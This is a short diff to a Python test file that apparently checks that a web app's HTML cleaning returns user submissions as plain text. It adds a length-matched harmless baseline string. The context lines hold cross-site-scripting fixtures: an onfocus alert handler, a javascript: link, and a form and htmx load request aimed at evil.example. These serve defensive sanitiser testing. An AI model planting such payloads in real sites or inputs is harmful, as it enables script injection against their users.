@@ -29,6 +29,7 @@ HOSTILE = (
     """<form action=//evil.example><input name=key autofocus onfocus=alert(1)>]]>{{ x }}{% y %}%(z)s{w}"""
     """[a](javascript:alert(1)) <p id=content hx-get=//evil.example hx-trigger=load data-staff-bar=x>"""
 )
+AS_LONG = (HARMLESS * 20)[: len(HOSTILE)]  # so that forms refuse both for it
 # What cleaning leaves of a reader's and an editor's own markup, and the marks around what screening noticed.
 OF_TEXT = {
     tag: {*rules, *table.everywhere, "rel"} for table in (COMMENT, ARTICLE) for tag, rules in table.tags.items()
@@ -160,7 +161,7 @@ def text_of(answer):
 
 def test_what_is_sent_comes_back_as_text(world, visitors, figure):
     usual = {
-        kind for _name, answer in sent(world, visitors, HARMLESS) if is_html(answer) for kind in kinds(answer.text)
+        kind for _name, answer in sent(world, visitors, AS_LONG) if is_html(answer) for kind in kinds(answer.text)
     }
 
     answers = list(sent(world, visitors, HOSTILE))
